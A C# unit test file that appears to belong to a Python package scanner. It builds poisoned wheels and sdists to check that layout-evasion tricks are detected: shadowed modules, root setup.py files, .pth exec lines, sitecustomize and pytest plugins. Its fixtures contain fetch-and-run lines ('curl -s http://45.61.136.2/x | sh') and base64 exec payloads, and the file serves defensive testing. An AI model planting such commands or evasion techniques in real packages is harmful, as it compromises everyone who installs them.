using System.Text;
using TrustCheck.Artifacts.Analysis;
using TrustCheck.Artifacts.Archives;
using TrustCheck.Artifacts.Capabilities;
using TrustCheck.Artifacts.Findings;
using TrustCheck.Artifacts.Surface;
using TrustCheck.Artifacts.Tests.Archives;
using TrustCheck.TestKit.Artifacts;

namespace TrustCheck.Artifacts.Tests.Analysis;

/// <summary>
/// Code hidden where an installer puts it but a naive reading does not look: members that install to the same place,
/// the wheel's other schemes, start-up modules, line separators Python honours — each must be seen.
/// </summary>
public sealed class LayoutEvasionTests
{
    private const string Release = "wheel-0.43.0-py3-none-any.whl";
    private const string Previous = "wheel-0.40.0-py3-none-any.whl";
    private const string Payload = "\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";

    [Fact]
    public void PayloadInDataPurelibShadowingABenignModule_IsScannedAndTheClashIsHigh()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes,
            ("wheel-0.43.0.data/purelib/wheel/__init__.py", Encoding.UTF8.GetBytes("__version__ = '0.43.0'" + Payload)));

        var findings = Analyze(poisoned);

        var clash = Assert.Single(findings, f => f.Code == ArchiveCodes.SameInstallPath);
        Assert.Equal(("wheel/__init__.py", ArtifactSeverity.High), (clash.Evidence["installsTo"], clash.Severity));
        Assert.Contains(findings, f => f.Code == CapabilityCodes.DecodedExecution && f.Evidence["member"] == "wheel-0.43.0.data/purelib/wheel/__init__.py");
    }

    [Fact]
    public void SdistWithARootSetupPyBesideItsFolder_RunsTheRootOneAndItIsScannedAsSetupPy()
    {
        var sdist = HostileArchives.TarGz(w =>
        {
            HostileArchives.File(w, "demo-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n");
            HostileArchives.File(w, "demo-1.0/setup.py", "from setuptools import setup\nsetup(name='demo')\n");
            HostileArchives.File(w, "setup.py", "import os\nos.system('curl -s http://45.61.136.2/x | sh')\n");
        });

        var findings = ArtifactAnalyzer.Analyze(new ArtifactInput("demo-1.0.tar.gz", sdist)).Findings;

        var run = Assert.Single(findings, f => f.Code == CapabilityCodes.ConcealedProcess);
        Assert.Equal(("setup.py", "setup-script"), (run.Evidence["member"], run.Evidence["location"]));
    }

    [Fact]
    public void DotSegmentSpellingOfAMember_IsADuplicate()
    {
        var sdist = HostileArchives.TarGz(w =>
        {
            HostileArchives.File(w, "demo-1.0/setup.py", "from setuptools import setup\nsetup(name='demo')\n");
            HostileArchives.File(w, "demo-1.0/./setup.py", "import os\nos.system('id')\n");
        });

        Assert.Contains(ArtifactAnalyzer.Analyze(new ArtifactInput("demo-1.0.tar.gz", sdist)).Findings, f => f.Code == ArchiveCodes.DuplicateMember);
    }

    [Theory]
    [InlineData("\r")]
    [InlineData("\u2028")]
    [InlineData("\f")]
    [InlineData("\v")]
    public void PthLineAfterAnySeparatorPythonHonours_IsExecuting(string separator)
    {
        var pth = Encoding.UTF8.GetBytes("lib" + separator + "import os;exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\n");

        Assert.Single(PthFiles.ExecutableLines(pth));
    }

    [Fact]
    public void PthWithAByteOrderMark_IsExecuting()
    {
        Assert.Single(PthFiles.ExecutableLines([0xEF, 0xBB, 0xBF, .. "import os\n"u8]));
    }

    [Fact]
    public void ScriptNamedPipRunningAShellPipe_ShadowsACommandAndIsScanned()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes,
            ("wheel-0.43.0.data/scripts/pip", "#!python\nimport os\nos.system('curl -s http://45.61.136.2/i | sh')\n"u8.ToArray()));

        var findings = Analyze(poisoned);

        Assert.Contains(findings, f => f.Code == SurfaceCodes.ShadowingEntryPoint && f.Severity >= ArtifactSeverity.High);
        Assert.Contains(findings, f => f.Code == CapabilityCodes.ConcealedProcess && f.Evidence["member"] == "wheel-0.43.0.data/scripts/pip");
    }

    [Fact]
    public void PthInstalledThroughTheDataScheme_IsAtTheTopOfSitePackages()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes,
            ("wheel-0.43.0.data/data/lib/python3.11/site-packages/zz.pth", "import os\n"u8.ToArray()));

        Assert.Contains(Analyze(poisoned), f => f.Code == SurfaceCodes.ExecutingPth && f.Severity == ArtifactSeverity.High);
    }

    [Fact]
    public void SitecustomizeModule_RunsAtEveryStart()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (_, bytes) => bytes, ("sitecustomize.py", "import os\n"u8.ToArray()));

        var finding = Assert.Single(Analyze(poisoned), f => f.Code == SurfaceCodes.StartupModule);

        Assert.Equal(ArtifactSeverity.High, finding.Severity);
    }

    [Fact]
    public void NewPytestPluginGroup_IsHigh()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Release), (path, bytes) => path.EndsWith("entry_points.txt", StringComparison.Ordinal)
            ? [.. bytes, .. "\n[pytest11]\nwheel_plugin = wheel.cli\n"u8]
            : bytes);

        Assert.Equal(ArtifactSeverity.High, Assert.Single(Analyze(poisoned), f => f.Code == SurfaceCodes.AutoLoadedEntryPoints && f.Evidence["key"] == "group:pytest11").Severity);
    }

    private static IReadOnlyList<ArtifactFinding> Analyze(byte[] poisoned) =>
        ArtifactAnalyzer.Analyze(new ArtifactInput(Release, poisoned), RealWheels.Input(Previous)).Findings;
}
